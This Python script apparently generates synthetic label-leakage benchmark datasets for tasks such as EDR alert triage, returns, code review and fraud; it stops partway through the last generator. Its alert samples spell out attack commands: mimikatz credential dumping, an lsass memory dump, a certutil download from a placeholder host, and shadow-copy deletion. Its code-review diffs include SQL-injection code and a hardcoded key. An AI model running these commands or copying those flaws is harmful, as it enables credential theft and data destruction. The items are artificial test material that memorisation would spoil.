#!/usr/bin/env python3
"""Deterministic generator for blind leakage-test datasets (ds3)."""
import json, random, os, hashlib
OUT = os.path.dirname(os.path.abspath(__file__))
R = random.Random(20261130)

FIRST = ["Ana","Ben","Chloe","Dmitri","Elena","Farid","Grace","Hiro","Ines","Jonas","Kofi","Lena","Marek","Nadia","Omar","Priya","Quinn","Rosa","Sven","Tara","Uma","Victor","Wen","Yusuf","Zoe","Luis","Mei","Noah","Aisha","Tomasz"]
LAST = ["Okafor","Schmidt","Nakamura","Silva","Kowalski","Haddad","Berg","Patel","Moreau","Lindqvist","Garcia","Chen","Novak","Ibrahim","Rossi","Murphy","Tanaka","Dubois","Ivanova","Kim"]
def name(r): return f"{r.choice(FIRST)} {r.choice(LAST)}"
def hexid(r, n=8): return "".join(r.choice("0123456789abcdef") for _ in range(n))
def ts(r, y=2026):
    return f"{y}-{r.randint(1,11):02d}-{r.randint(1,28):02d}T{r.randint(0,23):02d}:{r.randint(0,59):02d}:{r.randint(0,59):02d}Z"
def near(r, labs, lab, p=0.1):
    """legit signal is imperfect: sometimes the text reads like a neighbouring label"""
    if r.random() >= p: return lab
    i = labs.index(lab); return labs[max(0, min(len(labs)-1, i + r.choice([-1, 1])))]
def pick(r, dist):
    labs, w = zip(*dist); return r.choices(labs, weights=w)[0]

DOC = []
def write(name_, recs, labels, target, derive, note, kind, what):
    with open(os.path.join(OUT, name_ + ".jsonl"), "w") as f:
        for i, (lab, proj, leak) in enumerate(recs, 1):
            f.write(json.dumps({"id": f"{name_}-{i:04d}", "expected": lab, "label_set": labels, "target": target,
                                "projection": proj, "truth": {"leak": bool(leak)}}, ensure_ascii=False) + "\n")
    with open(os.path.join(OUT, name_ + ".meta.json"), "w") as f:
        json.dump({"derive_from": derive, "note": note}, f, indent=1)
    nl = sum(1 for x in recs if x[2])
    DOC.append(f"{name_} — {kind} — {what} — {len(recs)} records, {nl} leak")

# ---------------------------------------------------------------- 1 SIEM alert triage (leak: SOAR playbook id range)
def ds_secalert():
    r = random.Random(101); labs = ["benign","suspicious","malicious"]
    dist = [("benign",55),("suspicious",30),("malicious",15)]
    ev = {
     "benign": ["process=C:\\Program Files\\Veeam\\backup.exe parent=services.exe action=file_read count={n}",
                "user={u} logon_type=10 src_ip=10.{a}.{b}.{c} geo=office-vpn result=success mfa=push_approved",
                "process=powershell.exe cmd=\"Get-ChildItem C:\\Logs | Remove-Item -Recurse\" parent=taskschd.exe signer=corp-it",
                "dns query=update.microsoft.com client=10.{a}.{b}.{c} rcode=NOERROR",
                "process=sccm_agent.exe action=registry_write key=HKLM\\Software\\Policies count={n}",
                "user={u} password_change=self_service src=10.{a}.{b}.{c}"],
     "suspicious": ["user={u} logon_type=3 src_ip=45.{a}.{b}.{c} geo=unusual_country result=success mfa=none",
                "process=powershell.exe cmd=\"powershell -nop -w hidden -enc SQBFAFgA...\" parent=winword.exe",
                "process=certutil.exe cmd=\"certutil -urlcache -f http://{b}.{c}.tk/a.txt\" parent=cmd.exe",
                "user={u} failed_logins={n} window=10m followed_by=success src_ip=185.{a}.{b}.{c}",
                "process=rundll32.exe cmd=\"rundll32 C:\\Users\\Public\\x{n}.dll,Start\" unsigned=true",
                "new scheduled task name=Updater{n} author={u} action=C:\\ProgramData\\upd.vbs"],
     "malicious": ["process=mimikatz.exe cmd=\"sekurlsa::logonpasswords\" user={u} parent=cmd.exe",
                "process=procdump64.exe cmd=\"-ma lsass.exe C:\\Temp\\l.dmp\" user={u}",
                "outbound conn dst=185.{a}.{b}.{c}:443 beacon_interval=60s jitter=5% ti_match=CobaltStrike C2",
                "file_rename count={n}000 ext=.lockbit share=\\\\fs01\\finance user={u}",
                "vssadmin.exe delete shadows /all /quiet parent=cmd.exe user={u}",
                "process=rclone.exe dst=mega.nz bytes_out={n}4GB user={u}"]}
    rules = ["Suspicious PowerShell Execution","Anomalous Logon","Credential Access Heuristic","Outbound Beacon Detection",
             "Mass File Modification","LOLBin Usage","Scheduled Task Creation","Rare Process on Host"]
    pb = {"benign": (100,199), "suspicious": (400,499), "malicious": (900,999)}
    out = []
    for _ in range(170):
        lab = pick(r, dist); u = r.choice(FIRST).lower() + "." + r.choice(LAST).lower()
        raw = r.choice(ev[lab]).format(u=u, n=r.randint(2,40), a=r.randint(1,254), b=r.randint(1,254), c=r.randint(1,254))
        host = r.choice(["WS","LT","SRV","DC"]) + "-" + str(r.randint(1000,9999))
        alert = {"id": "ALR-" + hexid(r,10), "rule": r.choice(rules), "vendor": r.choice(["CrowdStrike","Defender","SentinelOne"]),
                 "risk_score": r.randint(20,95), "host": host, "user": u, "ts": ts(r),
                 "raw_event": f"{ts(r)} {host} edr[{r.randint(100,9999)}]: {raw}"}
        enr = {"asset": {"owner_team": r.choice(["Finance","Eng","Sales","IT","HR"]), "criticality": r.choice(["tier1","tier2","tier3"])},
               "geo": r.choice(["DE","US","NL","SG","BR"])}
        proj = {"alert": alert, "enrichment": enr, "timeline": [f"{ts(r)} alert ingested", f"{ts(r)} enrichment complete"]}
        leak = r.random() < 0.6
        if leak:
            code = f"PB-{r.randint(*pb[lab])}"
            if r.random() < 0.6:
                enr["soar"] = {"playbook": code, "run_id": hexid(r,12), "status": r.choice(["completed","finished"])}
            else:
                proj["timeline"].append(f"{ts(r)} SOAR executed {code} (run {hexid(r,6)})")
        out.append((lab, proj, leak))
    write("secalert_triage", out, labs, "verdict", ["/alert/raw_event", "/alert/rule", "/alert/host", "/alert/user"],
          "Analyst verdict for an EDR alert; judge from the raw event and rule.", "leaking",
          "SOAR playbook id whose numeric range (1xx/4xx/9xx) is chosen by the verdict, in enrichment or timeline", )

# ---------------------------------------------------------------- 2 RMA returns disposition (leak: staging cage)
def ds_rma():
    r = random.Random(102); labs = ["refund","replace","repair","reject"]
    dist = [("refund",45),("replace",30),("repair",15),("reject",10)]
    prods = ["Aero X2 headphones","Nimbus 14 laptop","KettlePro 1.7L","StrideFit watch","Lumen desk lamp","Orbit robot vacuum","Pixelcam 4K webcam"]
    body = {"refund": ["I ordered this on {d} but I no longer need it, it's still sealed in the box.",
                       "The {p} arrived two weeks after the promised date and I already bought one locally. I'd like my money back.",
                       "Changed my mind about the {p}, colour doesn't match my setup. Unopened.",
                       "Duplicate order by mistake - I got two {p}s. Please take one back and credit my card."],
            "replace": ["The {p} arrived with a cracked housing, looks like it was dropped in transit. Photos attached.",
                        "Out of the box the {p} won't power on at all. Dead on arrival.",
                        "Received the wrong model - I ordered the {p} but the box contains something else.",
                        "Screen has a line of dead pixels from day one. Can you send a new unit?"],
            "repair": ["My {p} worked fine for about {m} months but now the battery won't hold a charge. It's within the 2-year warranty.",
                       "The hinge on my {p} started squeaking and now it's loose, bought it {m} months ago.",
                       "After {m} months the {p} makes a grinding noise. Warranty card enclosed."],
            "reject": ["I bought the {p} about {y} months ago and it stopped working after I dropped it in the pool.",
                       "The {p} is out of warranty I think ({y} months) but it should last longer than this!",
                       "Used the {p} daily for a year and a half, wear on the buttons. Want a return."]}
    cage = {"refund":"C3","replace":"C7","repair":"C5","reject":"C9"}
    out = []
    for _ in range(150):
        lab = pick(r, dist); p = r.choice(prods); n = name(r)
        b = r.choice(body[lab]).format(p=p, d=f"{r.randint(1,28)}/{r.randint(1,11)}", m=r.randint(3,20), y=r.randint(14,30))
        extra = r.choice(["", " Thanks in advance.", " Please let me know the next steps.", " I have the original receipt.", " Order placed through the app."])
        rma = f"RMA{r.randint(100000,999999)}"
        email = (f"From: {n} <{n.split()[0].lower()}@{r.choice(['gmail.com','outlook.com','web.de','proton.me'])}>\n"
                 f"To: returns@shop.example\nDate: {ts(r)}\nSubject: Return request {rma} - {p}\n"
                 f"Content-Type: text/plain; charset=utf-8\n\nHello,\n\n{b}{extra}\n\nOrder #{r.randint(4000000,4999999)}\n{n}\n")
        leak = r.random() < 0.45
        cg = cage[lab] if leak else ""
        row = [rma, "SKU-" + hexid(r,5).upper(), ts(r), f"D{r.randint(1,6)}", cg, f"scn{r.randint(10,99)}"]
        csv = "rma_id,sku,received_at,dock,staging_cage,scanner_id\n" + ",".join(row)
        if leak and r.random() < 0.3:
            row[4] = ""; csv = "rma_id,sku,received_at,dock,staging_cage,scanner_id\n" + ",".join(row) + \
                f"\n# scan note: inspected, moved to cage {cage[lab][1]} ({r.choice(['pallet','tote','shelf'])} {r.randint(1,40)})"
        out.append((lab, {"email": email, "warehouse_scan": csv}, leak))
    write("rma_disposition", out, labs, "disposition", ["/email"],
          "Returns desk decides the RMA disposition from the customer's email.", "leaking",
          "warehouse staging cage (C3/C7/C5/C9) assigned per disposition, as CSV column or scan note", )

# ---------------------------------------------------------------- 3 code review verdict trajectory (leak: review-gate bot)
def ds_codereview():
    r = random.Random(103); labs = ["approve","request_changes","comment"]
    dist = [("approve",50),("request_changes",30),("comment",20)]
    titles = ["Add retry to payment webhook","Refactor user cache","Bump lodash","Fix typo in README","Add CSV export endpoint",
              "Migrate config to YAML","Introduce feature flag for search","Speed up image resize"]
    diffs = {"approve": ["+    retries = Retry(total=3, backoff_factor=0.5)\n+    session.mount('https://', HTTPAdapter(max_retries=retries))\n+def test_retry_mounted():\n+    assert ...",
                         "-    \"lodash\": \"4.17.19\"\n+    \"lodash\": \"4.17.21\"",
                         "-Instalation steps\n+Installation steps",
                         "+@pytest.mark.parametrize('w', [100, 800])\n+def test_resize(w):\n+    assert resize(img, w).width == w"],
             "request_changes": ["+    q = \"SELECT * FROM users WHERE email = '\" + email + \"'\"\n+    cur.execute(q)",
                                 "+API_KEY = \"sk_live_51H{h}\"\n+client = Client(API_KEY)",
                                 "-    with lock:\n-        cache[k] = v\n+    cache[k] = v  # lock removed for speed",
                                 "+    except Exception:\n+        pass"],
             "comment": ["+    # TODO: maybe use a dataclass here?\n+    cfg = dict(name=name, size=size)",
                         "+def export_csv(rows):\n+    out = io.StringIO()\n+    w = csv.writer(out)\n+    for r in rows: w.writerow(r)",
                         "+    timeout = 30  # magic number\n+    resp = http.get(url, timeout=timeout)",
                         "+if flags.enabled('new_search'):\n+    return new_search(q)\n+return legacy_search(q)"]}
    gate = {"approve": ["no blocking findings, ready to merge", "LGTM - ship it", "all policies satisfied; merge allowed"],
            "request_changes": ["blocking findings: must be fixed before merge", "merge blocked until author addresses findings", "policy violation found, PR cannot merge as is"],
            "comment": ["non-blocking suggestions only; author's call", "nits only, nothing blocking - leaving notes", "informational notes posted, no decision"]}
    emo = {"approve": "\u2705", "request_changes": "\u26d4", "comment": "\U0001f4ac"}
    out = []
    for _ in range(160):
        lab = pick(r, dist)
        ci_fail = r.random() < (0.55 if lab == "request_changes" else 0.1)
        steps = [{"step": 1, "tool": "get_pull_request", "args": {"number": r.randint(100,9000)},
                  "output": {"title": r.choice(titles), "author": r.choice(FIRST).lower() + str(r.randint(1,99)),
                             "body": r.choice(["Small change, see diff.", "Closes #" + str(r.randint(10,999)), "Follow-up to last sprint.", ""]),
                             "changed_files": r.randint(1,12), "additions": r.randint(2,400), "deletions": r.randint(0,200)}},
                 {"step": 2, "tool": "get_diff", "args": {}, "output": "@@ -%d,6 +%d,9 @@\n" % (r.randint(1,200), r.randint(1,200)) + r.choice(diffs[lab]).format(h=hexid(r,12))},
                 {"step": 3, "tool": "get_ci_status", "args": {}, "output": {"checks": [{"name": "unit-tests", "conclusion": "failure" if ci_fail else "success"},
                                                                                {"name": "lint", "conclusion": r.choice(["success","success","neutral"])}]}}]
        leak = r.random() < 0.7
        if leak:
            if r.random() < 0.5:
                steps.append({"step": 4, "tool": "get_check_runs", "args": {"app": "review-gate"},
                              "output": [{"name": "review-gate", "summary": r.choice(gate[lab]), "completed_at": ts(r)}]})
            else:
                steps.append({"step": 4, "tool": "get_check_runs", "args": {"app": "review-gate"},
                              "output": [{"name": f"review-gate {emo[lab]}", "summary": "see details", "completed_at": ts(r)}]})
        else:
            steps.append({"step": 4, "tool": "get_check_runs", "args": {"app": "review-gate"}, "output": []})
        out.append((lab, steps, leak))
    write("code_review_verdict", out, labs, "review_state", ["/0/output", "/1/output", "/2/output"],
          "Agent trajectory; verdict should be derived from the PR, its diff and CI status (first three steps).", "leaking",
          "upstream review-gate bot check-run: paraphrased verdict summary or status emoji in the name", )

# ---------------------------------------------------------------- 4 Jira priority (leak: comment states priority, ADF only)
def adf(text): return {"type": "doc", "version": 1, "content": [{"type": "paragraph", "content": [{"type": "text", "text": text}]}]}
def ds_jira():
    r = random.Random(104); labs = ["Critical","High","Medium","Low"]
    dist = [("Critical",8),("High",22),("Medium",45),("Low",25)]
    summ = {"Critical": ["Checkout returns 500 for all users","Production DB unreachable","Payments double-charged since deploy","SSO login down for every tenant"],
            "High": ["Login slow for EU customers","Invoices PDF missing line items","Search returns stale results for some accounts","Mobile app crashes on upload"],
            "Medium": ["Export button misaligned in Safari","Email notifications delayed by ~10 minutes","Filter resets after page refresh","Timezone wrong in audit log"],
            "Low": ["Typo on pricing page","Tooltip colour low contrast","Add dark mode to settings","Footer link points to old blog"]}
    desc = {"Critical": "Since {t} every request fails; revenue impact, no workaround. Status page updated.",
            "High": "Affects a large share of users on {t}; there is a painful workaround (retry several times).",
            "Medium": "Noticed on {t}. Annoying but users can work around it.",
            "Low": "Cosmetic issue seen on {t}, no functional impact."}
    noise = ["Seen on high-DPI screens too.", "Tenant is on the low-traffic region.", "Reporter uses the Medium plan.", "", "", "CPU usage was normal.", "Happens in a medium-sized workspace."]
    say = {"Critical": ["this is critical, paging on-call now", "Agreed in incident channel: Critical.", "setting to critical per runbook"],
           "High": ["bumping this to high, it blocks invoicing", "Discussed in standup, we agreed this is high priority.", "raising priority to High"],
           "Medium": ["keeping this at medium for now", "triage: medium, next sprint", "Priority -> Medium after discussion"],
           "Low": ["low priority, cosmetic", "triaged as low, backlog", "moving to Low, no customer impact"]}
    out = []
    for i in range(180):
        lab = pick(r, dist); tl = near(r, labs, lab, 0.12); s = r.choice(summ[tl]); d = desc[tl].format(t=r.choice(["Monday","the 14:00 deploy","v3.%d" % r.randint(1,30),"Chrome","iOS 18"])) + " " + r.choice(noise)
        comments = [{"id": str(r.randint(10000,99999)), "author": {"displayName": name(r)}, "created": ts(r),
                     "body": adf(r.choice(["Can reproduce.", "Attaching HAR file.", "Customer asked for an update.", "Linked to " + "OPS-%d" % r.randint(100,999), "Looking into it."]))}
                    for _ in range(r.randint(0,2))]
        leak = r.random() < 0.4
        if leak:
            comments.insert(r.randint(0, len(comments)), {"id": str(r.randint(10000,99999)), "author": {"displayName": name(r)}, "created": ts(r), "body": adf(r.choice(say[lab]))})
        proj = {"key": f"OPS-{r.randint(1000,9999)}", "fields": {"summary": s, "description": adf(d), "reporter": {"displayName": name(r)},
                "components": [r.choice(["web","api","billing","auth","mobile"])], "created": ts(r), "labels": r.sample(["customer","regression","ui","backend","eu"], 2),
                "comment": {"comments": comments, "total": len(comments)}}, "renderedFields": {"description": f"<p>{d}</p>"}}
        out.append((lab, proj, leak))
    write("jira_priority", out, labs, "priority", ["/fields/summary", "/fields/description", "/renderedFields/description"],
          "Predict ticket priority from summary/description.", "leaking",
          "a comment (ADF rich-text body) in which a team member states the priority, in varied wordings; label words also appear in ordinary senses", )

# ---------------------------------------------------------------- 5 insurance claim YAML (leak: outbound letter template code)
def ds_claim():
    r = random.Random(105); labs = ["approved","denied"]
    dist = [("approved",65),("denied",35)]
    narr = {"approved": ["Supply hose to the washing machine burst suddenly on {d}; water spread across the kitchen floor. Plumber invoice attached.",
                         "Tree limb fell on the garage roof during the storm of {d}; photos and contractor estimate provided.",
                         "Break-in through the patio door on {d}; police report #{n} filed, laptop and jewellery taken.",
                         "Kitchen fire from a pan on {d}, fire brigade attended; smoke damage to cabinets."],
            "denied": ["Ceiling stain has been growing slowly for months; roofer says the flashing has been deteriorating for years.",
                       "Basement flooded when the river overtopped on {d}; policy has no flood endorsement.",
                       "Claim for mould throughout the bathroom, tenant reports it has been present since last winter.",
                       "Loss occurred on {d}; premium for that period was unpaid and the policy lapsed two weeks earlier.",
                       "Cracked foundation due to ground settlement noticed during renovation."]}
    tmpl = {"approved": ["PAYLTR-01","PAYLTR-03"], "denied": ["DCL-EXCL-04","DCL-LAPSE-02"]}
    out = []
    for _ in range(140):
        lab = pick(r, dist); d = f"2026-{r.randint(1,10):02d}-{r.randint(1,28):02d}"
        ni = r.randrange(len(narr[lab])); n = narr[lab][ni].format(d=d, n=r.randint(10000,99999))
        loss_type = {"approved": ["water_damage","wind","theft","fire"], "denied": ["water_damage","flood","mould","water_damage","structural"]}[lab][ni]
        notes = r.choice(["Inspected site, photos on file.", "Spoke to insured by phone.", "Awaiting contractor estimate.", "Reviewed policy schedule."])
        leak = r.random() < 0.55
        corr = ""
        if leak:
            code = r.choice(tmpl[lab])
            if r.random() < 0.65:
                corr = f"correspondence:\n  outbound_letter: {code}\n  channel: {r.choice(['post','email'])}\n"
            else:
                notes += f" Queued letter {code} for mailing."
        y = (f"claim:\n  number: CLM-{r.randint(2026000,2026999)}\n  policy: HO-{r.randint(100000,999999)}\n  insured: {name(r)}\n"
             f"  loss_date: {d}\n  loss_type: {loss_type}\n  coverage: HO-3 dwelling + contents, deductible {r.choice([500,1000,2500])}\n"
             f"  adjuster: {name(r)}\n  narrative: |\n    {n}\n  adjuster_notes: |\n    {notes}\n" + ("  " + corr.replace("\n  ", "\n    ") if corr else ""))
        out.append((lab, y, leak))
    write("claim_decision", out, labs, "decision", ["narrative", "loss_type", "coverage"],
          "Home-insurance claim file rendered as YAML text; decide from the narrative and coverage (keys inside the YAML).", "leaking",
          "outbound letter template code (PAYLTR-* vs DCL-*) in a correspondence block or adjuster note", )

# ---------------------------------------------------------------- 6 HR screening (leak: ATS next-action / stage colour)
def ds_hr():
    r = random.Random(106); labs = ["advance","hold","reject"]
    dist = [("advance",30),("hold",25),("reject",45)]
    jobs = [("Backend Engineer", ["Python","PostgreSQL","AWS"]), ("Data Analyst", ["SQL","Tableau","statistics"]),
            ("Product Designer", ["Figma","user research","design systems"]), ("DevOps Engineer", ["Kubernetes","Terraform","CI/CD"])]
    filler = ["team sports", "volunteering at a food bank", "speaks Spanish", "hobby photographer", "mentored interns", "wrote internal wiki"]
    nxt = {"advance": ["schedule_onsite", "send_hm_packet"], "hold": ["add_to_talent_pool", "revisit_next_quarter"], "reject": ["send_regret_email", "archive_candidate"]}
    col = {"advance": "green", "hold": "amber", "reject": "grey"}
    out = []
    for _ in range(130):
        lab = pick(r, dist); title, must = r.choice(jobs)
        k = {"advance": 3, "hold": 2, "reject": r.choice([0,1])}[lab]
        have = r.sample(must, k); yrs = {"advance": r.randint(4,10), "hold": r.randint(2,5), "reject": r.randint(0,3)}[lab]
        resume = (f"{yrs} years of experience. Skills: " + ", ".join(have + r.sample(["Excel","Jira","Java","Photoshop","Go","Scrum"], 2)) +
                  f". Also {r.choice(filler)}. " + r.choice(["Looking for a remote role.", "Open to relocation.", "Available in 4 weeks.", ""]))
        cand = {"id": "CAN-" + hexid(r,6), "name": name(r), "location": r.choice(["Berlin","Lisbon","Austin","Toronto","Remote"]),
                "source": r.choice(["LinkedIn","referral","careers site","agency"])}
        activity = [{"at": ts(r), "event": "applied"}, {"at": ts(r), "event": "resume_parsed"}]
        proj = {"candidate": cand, "job": {"req_id": "REQ-%d" % r.randint(100,999), "title": title, "must_have": must},
                "resume_text": resume, "screening_answers": {"work_authorization": r.choice(["yes","yes","needs sponsorship"]),
                "salary_expectation_k": r.randint(45,140)}, "activity": activity}
        leak = r.random() < 0.65
        if leak:
            if r.random() < 0.6:
                activity.append({"at": ts(r), "event": "workflow_rule_fired", "next_action": r.choice(nxt[lab])})
            else:
                proj["stage_tag"] = {"color": col[lab], "set_by": r.choice(FIRST).lower()}
        out.append((lab, proj, leak))
    write("hr_screening", out, labs, "screen_decision", ["/resume_text", "/job/must_have", "/screening_answers"],
          "Recruiter screen decision from resume vs. job requirements.", "leaking",
          "ATS workflow next_action or pipeline stage-tag colour set per decision", )

# ---------------------------------------------------------------- 7 moderation HTML (leak: pre-selected button / prior mod note)
def ds_mod():
    r = random.Random(107); labs = ["keep","warn","remove"]
    dist = [("keep",60),("warn",25),("remove",15)]
    posts = {"keep": ["Does anyone know a good recipe for sourdough? Mine keeps coming out flat.", "Great match last night, the keeper was amazing!",
                      "I disagree with the mods' take on the new rules, but I get why.", "Keep it up everyone, this community helped me a lot."],
             "warn": ["Honestly you're an idiot if you believe that.", "Stop posting this garbage, nobody cares about your opinion.",
                      "lol ok boomer, go back to your cave", "This thread is full of morons."],
             "remove": ["Cheap followers!!! visit bit.ly/{h} now 1000 likes for $5", "I know where you live {n}, watch your back.",
                        "DM me for leaked account passwords, fresh dump", "Buy replica watches at r3plica-{h}.shop"]}
    out = []
    for _ in range(150):
        lab = pick(r, dist); body = r.choice(posts[lab]).format(h=hexid(r,5), n=r.choice(FIRST))
        reps = r.randint(0,2) + (2 if lab != "keep" else 0)
        rep = "".join(f"<li>{r.choice(['spam','harassment','off-topic','other'])}</li>" for _ in range(reps))
        leak = r.random() < 0.35
        btn = []
        sel = None
        if leak and r.random() < 0.5: sel = lab
        for v in labs:
            pressed = ' aria-pressed="true" class="btn selected"' if v == sel else ' class="btn"'
            btn.append(f'<button name="action" value="{v}"{pressed}>{v.capitalize()}</button>')
        note = ""
        if leak and sel is None:
            note = f'<div class="mod-note">{r.choice(["Previous moderator: ", "Decision logged - ", "escalation review says "])}{lab}</div>'
        html = (f'<div class="modq-item" data-post-id="{r.randint(10**6,10**7)}">\n<span class="author">u/{r.choice(FIRST).lower()}{r.randint(1,999)}</span>'
                f'<time>{ts(r)}</time>\n<div class="body">{body}</div>\n<ul class="reports">{rep}</ul>\n{note}\n'
                f'<form class="actions">{"".join(btn)}</form>\n</div>')
        out.append((lab, html, leak))
    write("forum_moderation", out, labs, "mod_action", ["body", "reports"],
          "Moderation queue item as HTML; decide from the post body (div.body) and report reasons.", "leaking",
          "earlier moderator's action: pressed button among the always-listed options, or a mod-note naming the action", )

# ---------------------------------------------------------------- 8 medical coding (leak: coder-assist ICD description)
def ds_icd():
    r = random.Random(108)
    codes = {"I10": ("Essential (primary) hypertension", 24), "E11.9": ("Type 2 diabetes mellitus without complications", 18),
             "J06.9": ("Acute upper respiratory infection, unspecified", 20), "M54.50": ("Low back pain, unspecified", 14),
             "K21.9": ("Gastro-esophageal reflux disease without esophagitis", 10), "N39.0": ("Urinary tract infection, site not specified", 8),
             "F41.1": ("Generalized anxiety disorder", 6)}
    labs = list(codes)
    S = {"I10": ["BP {a}/{b} on two readings, patient on lisinopril 10 mg, no end-organ symptoms.", "Elevated blood pressure at home log, avg {a}/{b}; continue amlodipine."],
         "E11.9": ["A1c {x}%, metformin 1000 mg BID, feet exam normal, no retinopathy on last screen.", "Fasting glucose 160s, A1c up to {x}%; reinforce diet, add SGLT2."],
         "J06.9": ["Sore throat and rhinorrhea x3 days, afebrile, lungs clear, rapid strep negative.", "Cough, congestion, mild fever 37.9, supportive care."],
         "M54.50": ["Lower back pain after lifting boxes, no radiation, no red flags, SLR negative.", "Lumbar pain x2 weeks, paraspinal tenderness, PT referral."],
         "K21.9": ["Burning retrosternal pain after meals, worse lying down, trial PPI.", "Heartburn nightly, no dysphagia, omeprazole 20 mg."],
         "N39.0": ["Dysuria and frequency x2 days, UA nitrite positive, nitrofurantoin started.", "Urinalysis leukocyte esterase +, suprapubic tenderness."],
         "F41.1": ["Reports constant worry for >6 months, GAD-7 score {g}, sleep disturbed, start sertraline.", "Persistent anxiety, restlessness, GAD-7 {g}; CBT referral."]}
    out = []
    for _ in range(150):
        lab = pick(r, [(k, v[1]) for k, v in codes.items()])
        a = r.choice(S[lab]).format(a=r.randint(138,165), b=r.randint(88,102), x=round(r.uniform(6.6,8.9),1), g=r.randint(11,19))
        note = (f"S: {r.randint(22,84)}yo {r.choice(['M','F'])} presents for {r.choice(['follow-up','acute visit','annual exam'])}. "
                f"O: T {round(r.uniform(36.4,37.4),1)} HR {r.randint(58,96)}. A/P: {a} RTC {r.choice(['2 wks','3 mo','PRN'])}.")
        proj = {"encounter": {"id": "ENC-" + hexid(r,8), "date": ts(r)[:10], "provider": "Dr. " + r.choice(LAST), "dept": r.choice(["Family Med","Internal Med","Urgent Care"])},
                "note": note}
        leak = r.random() < 0.5
        if leak:
            desc = codes[lab][0]
            if r.random() < 0.6:
                proj["coder_assist"] = {"model": "cac-v4", "suggestions": [{"description": desc, "confidence": round(r.uniform(0.82,0.99),2)}]}
            else:
                proj["problem_list_update"] = f"Added by coding: {desc}"
        out.append((lab, proj, leak))
    write("icd10_coding", out, labs, "primary_dx_code", ["/note"],
          "Assign the primary ICD-10-CM code from the clinical note.", "leaking",
          "upstream computer-assisted-coding output / problem-list update giving the official code description (not the code)", )

# ---------------------------------------------------------------- 9 card fraud (leak: risk queue code)
def ds_fraud():
    r = random.Random(109); labs = ["fraud","legit"]
    dist = [("fraud",12),("legit",88)]
    merch = ["Grocery Mart","Shell 0442","Steam Games","Apple.com/bill","Uber","Zalando","BestBuy Online","Coffee Corner","AliExpress","Booking.com"]
    out = []
    for _ in range(190):
        lab = pick(r, dist); home = r.choice(["DE","FR","US","GB"])
        f = lab == "fraud"
        country = (r.choice(["NG","RU","BR","VN"]) if r.random() < 0.7 else home) if f else (home if r.random() < 0.92 else r.choice(["ES","IT","NL"]))
        amt = round(r.uniform(300,2500) if f and r.random() < 0.7 else r.uniform(3,180), 2)
        txn = {"txn_id": "T" + hexid(r,12), "ts": ts(r), "amount": amt, "currency": "EUR", "merchant": r.choice(merch), "mcc": r.choice(["5411","5541","5816","4121","5732"]),
               "ip_country": country, "card_home_country": home, "entry_mode": r.choice(["ecom","ecom","chip","contactless"])}
        dev = {"device_id": hexid(r,16), "first_seen_days": (r.randint(0,1) if f and r.random() < 0.75 else r.randint(2,900)), "os": r.choice(["iOS","Android","Windows","macOS"])}
        rows = ["ts,merchant,amount,result"]
        for _ in range(r.randint(3,7)):
            small = f and r.random() < 0.5
            rows.append(f"{ts(r)},{r.choice(merch)},{round(r.uniform(0.5,2) if small else r.uniform(5,120),2)},{r.choice(['approved','approved','declined']) if small else 'approved'}")
        proj = {"transaction": txn, "device": dev, "recent_activity_csv": "\n".join(rows)}
        leak = r.random() < 0.4
        if leak:
            q = "RSK-ESC-2" if f else "RSK-AUTO-0"
            if r.random() < 0.5: proj["case"] = {"queue": q, "created": ts(r)}
            else: proj["notes"] = f"rules-engine v7 routed to {q}"
        out.append((lab, proj, leak))
    write("card_fraud", out, labs, "label", ["/transaction", "/device", "/recent_activity_csv"],
          "Card-not-present fraud label from the transaction, device and recent activity.", "leaking",
          "risk-ops queue code (RSK-ESC-2 vs RSK-AUTO-0) routed by the rules engine, in case.queue or notes", )

# ================================================================= CLEAN
def ds_stars():
    r = random.Random(201); labs = ["1","2","3","4","5"]
    dist = [("1",15),("2",8),("3",12),("4",22),("5",43)]
    txt = {"1": ["Terrible. App crashes every time I open the camera.", "Lost all my notes after the update, useless.", "Charged twice and support never answered. Avoid."],
           "2": ["Used to be good, now full of ads and slow.", "Sync keeps failing, disappointed.", "Too many bugs since version {v}."],
           "3": ["It's okay. Does the job but the UI is clunky.", "Decent app, missing an export feature.", "Average - works, nothing special."],
           "4": ["Really useful, just wish it had widgets.", "Good app, minor lag on older phones.", "Solid, I use it daily. One star off for the price."],
           "5": ["Love it! Best planner I've used.", "Perfect, exactly what I needed, 10/10.", "Amazing support team, fixed my issue in {d} hours."]}
    out = []
    for _ in range(160):
        lab = pick(r, dist); v = f"{r.randint(3,6)}.{r.randint(0,9)}.{r.randint(0,5)}"
        body = r.choice(txt[near(r, labs, lab, 0.12)]).format(v=v, d=r.randint(1,5)) + r.choice(["", " Using it for {} weeks.".format(r.randint(1,5)), " On a {}.".format(r.choice(["Pixel 5","iPhone 14","Galaxy S21","Moto G4"]))])
        proj = {"instructions": "Predict the star rating (1, 2, 3, 4 or 5) the user gave.",
                "review": {"id": "gp:AOqp" + hexid(r,10), "app_version": v, "device": r.choice(["Pixel 5","iPhone 14","Galaxy S21","Moto G4","Xiaomi 12"]),
                           "locale": r.choice(["en_US","en_GB","en_IN"]), "date": ts(r)[:10], "title": body.split(".")[0][:40], "text": body,
                           "helpful_votes": r.randint(0,45), "developer_reply": r.choice([None, None, "Thanks for the feedback! Please contact support@app.example.", "We're sorry to hear that - version %s fixes several issues." % v])}}
        out.append((lab, proj, False))
    write("app_review_stars", out, labs, "star_rating", ["/review/text", "/review/title"],
          "Play-store review star prediction.", "clean",
          "digits 1-5 appear in versions, vote counts, durations and the instruction; review sentiment is the legitimate signal", )

def ds_logsev():
    r = random.Random(202); labs = ["info","warning","error","critical"]
    dist = [("info",50),("warning",28),("error",17),("critical",5)]
    msg = {"info": ["user {u} logged in", "scheduled job nightly-report completed in {n}s", "config reloaded", "health check ok"],
           "warning": ["disk usage at {p}% on /var", "slow query took {n}00ms", "transient error talking to cache, retrying (1/3)", "certificate expires in {n} days"],
           "error": ["failed to write invoice {n}: connection refused", "java.lang.OutOfMemoryError in worker-{n}", "payment callback returned HTTP 500", "unhandled exception in OrderService"],
           "critical": ["database cluster lost quorum, writes disabled", "all replicas down for service auth", "data corruption detected in ledger shard {n}"]}
    svcs = ["billing-api","auth","orders","ledger","search","notif"]
    out = []
    for _ in range(150):
        lab = pick(r, dist); s = r.choice(svcs)
        m = r.choice(msg[near(r, labs, lab, 0.1)]).format(u=r.choice(FIRST).lower(), n=r.randint(2,99), p=r.randint(85,97))
        ctx = "\n".join(f"{ts(r)} {r.choice(['INFO','WARN','ERROR','DEBUG'])} [{r.choice(svcs)}] {r.choice(['request handled','gc pause 12ms','retrying','cache miss','shutdown hook registered'])}" for _ in range(r.randint(1,3)))
